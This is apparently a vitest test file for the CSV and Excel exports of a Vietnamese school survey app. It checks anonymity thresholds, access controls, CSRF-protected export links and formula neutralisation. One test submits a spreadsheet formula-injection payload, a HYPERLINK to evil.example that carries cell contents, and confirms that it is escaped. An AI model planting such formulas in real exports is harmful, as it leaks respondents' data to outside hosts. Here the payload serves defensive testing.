import { gunzipSync, inflateSync } from "node:zlib";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { listElements, localize } from "../forms/walk.ts";
import { createApp } from "../server/app.ts";
import { neutralizeCell } from "../server/exports/csv.ts";
import { columnLetter } from "../server/exports/xlsx.ts";
import type { Store } from "../server/store/store.ts";
import { parseCsv } from "../server/units/parse-csv.ts";
import {
  allRatings,
  CLOSES,
  catalogueForm,
  DURING,
  fixedClock,
  OPENS,
  openTestStore,
  postJson,
  tempDir,
} from "./helpers.ts";
import { type Agent, addAccount, download, signIn } from "./manager-helpers.ts";

const dir = tempDir();
const clock = fixedClock(DURING);
const staffForm = catalogueForm("happy-school-staff");
const parentForm = catalogueForm("happy-school-parent");
let store: Store;
let manager: Agent;
let app: ReturnType<typeof createApp>;
let staffCampaign: number;
let parentCampaign: number;
const staffCodes = Array.from({ length: 6 }, (_, i) => `EXPSTAFF0${i}`);
const sent: { code: string; answers: Record<string, unknown> }[] = [];

beforeAll(async () => {
  store = await openTestStore(`${dir.path}/export.db`);
  const now = clock.now();
  await store.forms.addVersions([staffForm, parentForm], now);
  await store.units.create({ code: "XA", name: "Xã Ba Chẽ", kind: "commune" }, now);
  await store.units.create(
    { code: "TH-MC", name: "Trường Tiểu học Minh Cầm", kind: "school", parentCode: "XA" },
    now,
  );
  await store.units.create(
    { code: "MN-DT", name: "Trường Mầm non Đạp Thanh", kind: "school", parentCode: "XA" },
    now,
  );
  await store.units.create(
    { code: "THCS-BC", name: "Trường THCS Ba Chẽ", kind: "school", parentCode: "XA" },
    now,
  );
  await addAccount(store, "bgh", "manager", "XA", now);
  const window = {
    unitCode: "XA",
    period: "2026–2027 HK1",
    opensAt: new Date(OPENS),
    closesAt: new Date(CLOSES),
  };
  staffCampaign = (
    await store.campaigns.create({ ...window, formId: "happy-school-staff", kind: "staff" }, now)
  ).id;
  parentCampaign = (
    await store.campaigns.create({ ...window, formId: "happy-school-parent", kind: "parent" }, now)
  ).id;
  await store.campaigns.addCodes(staffCampaign, "TH-MC", "staff", staffCodes, now);
  await store.campaigns.addCodes(parentCampaign, "TH-MC", "parent", ["EXPPARENT001"], now);
  await store.campaigns.addCodes(parentCampaign, "MN-DT", "parent", ["EXPPARENT002"], now);
  await store.campaigns.addCodes(parentCampaign, "THCS-BC", "parent", ["EXPPARENT003"], now);
  app = createApp({ store, clock, logError: () => {} });
  for (const [i, code] of staffCodes.entries()) {
    const answers = {
      ...allRatings(staffForm, 1 + (i % 5)),
      suggestions: `Đề xuất số ${i}: "thêm giờ", sân chơi; cây xanh\nvà thư viện`,
    };
    expect(
      (await postJson(app, `/api/a/${code}/responses`, { answers, clientId: `export-${i}-abc` })).status,
    ).toBe(201);
    sent.push({ code, answers });
  }
  // Parents: 5 at TH-MC, 2 at MN-DT (under the threshold), 8 at THCS-BC. MN-DT is withheld, and
  // TH-MC too, as the smallest sibling: else the blank rows would be MN-DT's by elimination.
  for (let i = 0; i < 15; i++) {
    const code = i < 5 ? "EXPPARENT001" : i < 7 ? "EXPPARENT002" : "EXPPARENT003";
    expect(
      (
        await postJson(app, `/api/a/${code}/responses`, {
          answers: allRatings(parentForm, 4),
          clientId: `export-p${i}-abc`,
        })
      ).status,
    ).toBe(201);
  }
  manager = await signIn(app, "bgh");
});
/** A CSV column by its question id: headers are "question text [id]". */
function columnOf(header: string[], id: string): number {
  return header.findIndex((h) => h.endsWith(`[${id}]`));
}

afterAll(async () => {
  await store.close();
  dir.remove();
});

describe("GET /api/campaigns/:id/export.csv", () => {
  test("is UTF-8 with a BOM and parses back to the stored answers, Vietnamese intact, with no access codes", async () => {
    const res = await download(manager, staffCampaign, "csv", "XA");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(
      /^attachment; filename="Truong-hoc-hanh-phuc-.*-XA\.csv"$/,
    );
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    for (const code of staffCodes) expect(text).not.toContain(code);
    const [header = [], ...rows] = parseCsv(text).filter((r) => r.length > 1);
    expect(rows).toHaveLength(sent.length);
    const col = (id: string) => columnOf(header, id);
    // Rows come in no order of submission: each is matched to what was sent by its comment.
    for (const row of rows) {
      const answers = sent.find((x) => x.answers.suggestions === row[col("suggestions")])?.answers ?? {};
      expect(row[col("unit_name")]).toBe("Trường Tiểu học Minh Cầm");
      expect(row[col("tc1_01")]).toBe(String(answers.tc1_01));
      expect(row[col("suggestions")]).toBe(answers.suggestions);
      expect(Number(row[col("score_total")])).toBe(((Number(answers.tc1_01) - 1) / 4) * 100);
    }
    for (const id of ["score_TC1", "score_TC2", "score_TC3", "level"]) expect(col(id)).toBeGreaterThan(0);
    const tc1 = listElements(staffForm.json).find((el) => el.name === "tc1_01");
    expect(header).toContain(`${localize(tc1?.title, "default")} [tc1_01]`);
    expect(header.slice(0, 3)).toEqual([
      "Mã đơn vị [unit_code]",
      "Tên đơn vị [unit_name]",
      "Ngày công bố (giờ Việt Nam) [released_on]",
    ]);
  });

  test("lists only released responses: a school under the anonymity threshold has no rows at all", async () => {
    const text = await (await download(manager, parentCampaign, "csv")).text();
    const [header = [], ...rows] = parseCsv(text.replace(/^\uFEFF/, "")).filter((r) => r.length > 1);
    const units = rows.map((r) => r[columnOf(header, "unit_code")]);
    expect(units.filter((u) => u === "THCS-BC")).toHaveLength(8);
    expect(units.filter((u) => u === "TH-MC")).toHaveLength(5);
    expect(rows).toHaveLength(13);
    for (const hidden of ["MN-DT", "Đạp Thanh"]) expect(text).not.toContain(hidden);
  });

  test("?unit= a withheld school gives its header row alone, for staff and parents alike", async () => {
    for (const campaign of [parentCampaign, staffCampaign]) {
      const res = await download(manager, campaign, "csv", "MN-DT");
      expect(res.status).toBe(200);
      const rows = parseCsv((await res.text()).replace(/^\uFEFF/, "")).filter((r) => r.length > 1);
      expect(rows).toHaveLength(1);
    }
  });

  test("rows carry the day of release at most: no time, revision, code or holder", async () => {
    const text = await (await manager.request(`/api/campaigns/${staffCampaign}/export.csv?unit=XA`)).text();
    const [header = [], ...rows] = parseCsv(text.replace(/^\uFEFF/, "")).filter((r) => r.length > 1);
    expect(header.join()).not.toMatch(/submitted|revision/);
    for (const row of rows) expect(row[columnOf(header, "released_on")]).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(text).not.toMatch(/T\d{2}:\d{2}/);
  });

  test.each([
    ["gzip, deflate, br", "gzip"],
    ["br;q=1.0, gzip;q=0.5", "gzip"],
    // Not gzip: the app's compression middleware answers what the client takes.
    ["gzip;q=0, deflate", "deflate"],
    ["identity", null],
  ])(
    "with Accept-Encoding %j sends content-encoding %j, the same CSV either way",
    async (accept, encoding) => {
      const plain = new Uint8Array(await (await download(manager, staffCampaign, "csv", "XA")).arrayBuffer());
      const res = await download(manager, staffCampaign, "csv", "XA", {
        headers: { "accept-encoding": accept },
      });
      expect(res.status).toBe(200);
      expect(res.headers.get("content-encoding")).toBe(encoding);
      expect(res.headers.get("vary")).toMatch(/Accept-Encoding/);
      const sent = new Uint8Array(await res.arrayBuffer());
      const decode = { gzip: gunzipSync, deflate: inflateSync }[encoding ?? ""];
      expect(decode ? new Uint8Array(decode(sent)) : sent).toEqual(plain);
    },
  );

  test("a viewer may read results but not export raw answers", async () => {
    await addAccount(store, "xem", "viewer", "XA", clock.now());
    const viewer = await signIn(app, "xem");
    expect((await viewer.request(`/api/campaigns/${staffCampaign}/results?unit=XA`)).status).toBe(200);
    expect((await download(viewer, staffCampaign, "csv", "XA")).status).toBe(403);
  });
});

describe("GET /api/campaigns/:id/export.xlsx, for Excel", () => {
  const title = (name: string) =>
    localize(listElements(staffForm.json).find((el) => el.name === name)?.title, "default");
  const load = async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await (await download(manager, staffCampaign, "xlsx", "XA")).arrayBuffer());
    return workbook;
  };
  const valuesOf = (sheet: ExcelJS.Worksheet | undefined, row: number) =>
    ((sheet?.getRow(row).values ?? []) as unknown[]).slice(1);
  const headerOf = (sheet: ExcelJS.Worksheet | undefined) => valuesOf(sheet, 1);

  test("answers and scores are numbers, the day of release a date, the headers the question texts", async () => {
    const workbook = await load();
    expect(workbook.worksheets.map((w) => w.name)).toEqual(["Câu trả lời", "Điểm tiêu chí", "Câu hỏi"]);
    const sheet = workbook.getWorksheet("Câu trả lời");
    expect(sheet?.rowCount).toBe(sent.length + 1);
    const header = headerOf(sheet);
    expect(header.slice(0, 3)).toEqual(["Mã đơn vị", "Tên đơn vị", "Ngày công bố (giờ Việt Nam)"]);
    expect(header).toContain(title("tc1_01"));
    expect(header).toContain("Điểm TC1: Môi trường nhà trường và phát triển cá nhân");
    const at = (h: string) => header.indexOf(h) + 1;
    const ratings = listElements(staffForm.json).filter((el) => el.type === "rating");
    for (let r = 2; r <= sent.length + 1; r++) {
      const row = sheet?.getRow(r);
      expect(row?.getCell(2).value).toBe("Trường Tiểu học Minh Cầm");
      // DURING is 15:00 on 23 November in Vietnam; the cell is that day, as a date.
      expect(row?.getCell(3).value).toEqual(new Date("2026-11-23T00:00:00.000Z"));
      for (const q of ratings) expect(typeof row?.getCell(at(title(q.name as string))).value).toBe("number");
      for (const h of header.filter((h) => String(h).startsWith("Điểm")))
        expect(typeof row?.getCell(at(String(h))).value).toBe("number");
      const answers = sent.find(
        (x) => x.answers.suggestions === row?.getCell(at(title("suggestions"))).value,
      );
      expect(row?.getCell(at(title("tc1_01"))).value).toBe(answers?.answers.tc1_01);
      expect(row?.getCell(at("Điểm chung")).value).toBe(((Number(answers?.answers.tc1_01) - 1) / 4) * 100);
    }
  });

  test("every sheet's header row is frozen, and columns are as wide as what they hold", async () => {
    const workbook = await load();
    for (const sheet of workbook.worksheets)
      expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    const sheet = workbook.getWorksheet("Câu trả lời");
    const header = headerOf(sheet);
    expect(sheet?.getColumn(2).width).toBe(32);
    expect(sheet?.getColumn(header.indexOf(title("suggestions")) + 1).width).toBe(40);
    expect(sheet?.getColumn(header.indexOf(title("tc1_01")) + 1).width).toBe(16);
    expect(sheet?.getColumn(3).numFmt).toBe("dd/mm/yyyy");
  });

  test("the scores sheet has each unit's mean per criterion and the whole, from the exported rows", async () => {
    const sheet = (await load()).getWorksheet("Điểm tiêu chí");
    expect(headerOf(sheet).slice(0, 4)).toEqual([
      "Mã đơn vị",
      "Tên đơn vị",
      "Số phiếu",
      "Điểm TC1: Môi trường nhà trường và phát triển cá nhân",
    ]);
    // Six staff answered 1, 2, 3, 4, 5, 1 to every rating: scores 0, 25, 50, 75, 100, 0.
    const mean = (0 + 25 + 50 + 75 + 100 + 0) / 6;
    const rows = [2, 3].map((r) => valuesOf(sheet, r));
    expect(rows[0]?.slice(0, 3)).toEqual(["TH-MC", "Trường Tiểu học Minh Cầm", 6]);
    expect(rows[1]?.slice(0, 3)).toEqual([undefined, "Tất cả", 6]);
    for (const row of rows) for (const v of row.slice(3)) expect(v).toBeCloseTo(mean, 9);
    expect(sheet?.rowCount).toBe(3);
  });

  test("the ids sheet gives each column's letter, question id and text", async () => {
    const workbook = await load();
    const header = headerOf(workbook.getWorksheet("Câu trả lời"));
    const ids = workbook.getWorksheet("Câu hỏi");
    expect(ids?.rowCount).toBe(header.length + 1);
    const at = header.indexOf(title("tc1_01"));
    expect(valuesOf(ids, at + 2)).toEqual([columnLetter(at), "tc1_01", title("tc1_01"), "TC1"]);
  });

  test.each([
    [0, "A"],
    [25, "Z"],
    [26, "AA"],
    [51, "AZ"],
    [52, "BA"],
    [701, "ZZ"],
    [702, "AAA"],
  ])("column %i is %s", (index, letter) => {
    expect(columnLetter(index)).toBe(letter);
  });
});

describe("exports are not started by a cross-site link", () => {
  test("a plain GET of the export (what another site's link or image triggers) is refused and logs nothing", async () => {
    const before = await store.countRows();
    const res = await manager.request(`/api/campaigns/${staffCampaign}/export.csv?unit=XA`);
    expect(res.status).toBe(403);
    expect((await res.json()).error.code).toBe("export_link");
    expect(await store.countRows()).toEqual(before);
  });

  test("a link works only for its session, campaign, unit and format, and for a minute", async () => {
    const res = await manager.request(`/api/campaigns/${staffCampaign}/export-link`, {
      method: "POST",
      json: { format: "csv", unit: "XA" },
    });
    expect(res.status).toBe(200);
    const { url } = (await res.json()) as { url: string };
    const other = await signIn(app, "bgh");
    const token = new URL(url, "http://x").searchParams.get("token");
    expect((await other.request(url)).status).toBe(403);
    expect((await manager.request(url.replace("export.csv", "export.xlsx"))).status).toBe(403);
    expect((await manager.request(url.replace("unit=XA", "unit=TH-MC"))).status).toBe(403);
    expect(
      (await manager.request(`/api/campaigns/${parentCampaign}/export.csv?unit=XA&token=${token}`)).status,
    ).toBe(403);
    clock.set(new Date(Date.parse(DURING) + 61_000).toISOString());
    expect((await manager.request(url)).status).toBe(403);
    clock.set(DURING);
    expect((await manager.request(url)).status).toBe(200);
  });

  test("a link is asked for with the CSRF header, like every other change", async () => {
    const res = await app.request(`/api/campaigns/${staffCampaign}/export-link`, {
      method: "POST",
      headers: { cookie: manager.cookie, "content-type": "application/json" },
      body: JSON.stringify({ format: "csv" }),
    });
    expect(res.status).toBe(403);
    expect((await res.json()).error.code).toBe("csrf");
  });
});

describe("cells a spreadsheet would run as formulas", () => {
  test.each([
    ["=1+2", "'=1+2"],
    ["+84 912", "'+84 912"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["-3", "-3"],
    ["-1.5", "-1.5"],
    ["Tốt = 5", "Tốt = 5"],
    ["", ""],
  ])("%j is written as %j", (value, safe) => {
    expect(neutralizeCell(value)).toBe(safe);
  });

  test("a respondent's formula reaches CSV and XLSX as text with a leading apostrophe", async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
    // Five answers: a school's figures and rows change only by batches of the anonymity threshold.
    const codes = [1, 2, 3, 4, 5].map((i) => `EXPFORMULA${i}`);
    await store.campaigns.addCodes(staffCampaign, "TH-MC", "staff", codes, clock.now());
    const answers = { ...allRatings(staffForm, 3), suggestions: formula };
    for (const code of codes) {
      const sentRes = await postJson(app, `/api/a/${code}/responses`, { answers, clientId: `f-${code}` });
      expect(sentRes.status).toBe(201);
    }
    const text = await (await download(manager, staffCampaign, "csv", "XA")).text();
    const [header = [], ...rows] = parseCsv(text.replace(/^\uFEFF/, "")).filter((r) => r.length > 1);
    const cells = rows.map((r) => r[columnOf(header, "suggestions")]);
    expect(cells).toContain(`'${formula}`);
    expect(cells).not.toContain(formula);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await (await download(manager, staffCampaign, "xlsx", "XA")).arrayBuffer());
    const sheet = workbook.worksheets[0];
    const col = columnOf(header, "suggestions") + 1;
    const values = Array.from(
      { length: sheet?.rowCount ?? 0 },
      (_, i) => sheet?.getRow(i + 1).getCell(col).value,
    );
    expect(values).toContain(`'${formula}`);
    expect(values).not.toContain(formula);
  });
});
